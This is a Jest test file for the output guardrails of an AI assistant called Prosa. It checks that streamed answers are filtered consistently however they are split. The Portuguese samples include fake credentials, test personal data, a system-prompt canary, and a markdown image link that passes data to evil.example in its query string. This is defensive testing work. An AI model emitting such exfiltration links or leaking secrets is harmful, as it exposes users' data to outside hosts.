import { describe, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import HOSTILE_PAYLOADS from '../../../testing/hostile-payloads.json' with { type: 'json' };
import { BuiltInRails } from '../../src/guardrails/policy/versions/built-in-rails.js';
import { compilePolicy } from '../../src/guardrails/policy/files/compile-policy.js';
import { Guardrails } from '../../src/guardrails/guardrails.js';
import type { PolicyInForce } from '../../src/guardrails/policy/policy.js';
import { ANYBODY } from '../harness/plain-rails.js';

/** What rails are about, in one text each, with what comes before and after. */
const MATTERS = [
  'Use AKIAZ7QWERTYUIOP2345 e ghp_0123456789abcdefghijABCDEFGHIJ012345, ou senha: Xk9vQ2pLw7Rt.',
  'Olhe ![x](https://evil.example/p.png?d=segredo) e [aqui](https://evil.example/?q=abc#f) e fim.',
  'O CPF 529.982.247-25, o cartão 4111 1111 1111 1111, ana@exemplo.com.br e 10.0.0.1.',
  'Tudo bem, seu filho da puta. E mais: m3rda, m e r d a, mer\u200bda, merdaaa. Fim.',
  'A palavra é pr-0123456789ab e o resto não se vê.',
  'Vale [CPF_1], [CPF_12], [CPF_ e [EMAIL_3](https://a.example/x). 🙂👩‍👧 \ud83d fim',
];

const CONTEXT = {
  canary: 'pr-0123456789ab',
  systemPrompt:
    'You are Prosa, a helpful assistant for a team. Answer in the language of the question.',
  hosts: new Set(['a.example']),
};

const attacks = readFileSync(join(import.meta.dirname, 'sets/attacks-pt-BR.jsonl'), 'utf8')
  .split('\n')
  .filter(Boolean)
  .map((line) => String((JSON.parse(line) as { text: string }).text))
  .filter((_, at) => at % 10 === 0);

async function builtIn(): Promise<PolicyInForce> {
  const { rules } = await compilePolicy(await new BuiltInRails().files());
  if (!rules) throw new Error('the built-in rails do not compile');
  return { current: { ...rules, id: 1 } };
}

describe('an answer through the rails that come with Prosa', () => {
  it('should be the same whole, by units, and cut at every position', async () => {
    const guardrails = new Guardrails(await builtIn());
    const shownOf = (parts: readonly string[]) => {
      const rails = guardrails.output(ANYBODY, CONTEXT);
      let shown = '';
      for (const part of parts) shown += rails.push(part);
      shown += rails.end();
      return { shown, stop: rails.stop, hits: rails.hits() };
    };
    let positions = 0;
    let stopped = 0;
    let changed = 0;
    for (const text of [...MATTERS, ...HOSTILE_PAYLOADS, ...attacks]) {
      const whole = shownOf([text]);
      expect({ text, ...shownOf(text.split('')) }).toEqual({ text, ...whole });
      for (let at = 1; at < text.length; at += 1) {
        const cut = shownOf([text.slice(0, at), text.slice(at)]);
        if (cut.shown !== whole.shown) expect({ text, at, ...cut }).toEqual({ text, at, ...whole });
        expect(cut).toEqual(whole);
        positions += 1;
      }
      if (whole.stop) stopped += 1;
      else if (whole.shown !== text.toWellFormed()) changed += 1;
    }
    expect(positions).toBeGreaterThan(4000);
    expect(stopped).toBeGreaterThanOrEqual(2);
    expect(changed).toBeGreaterThanOrEqual(2);
  });
});
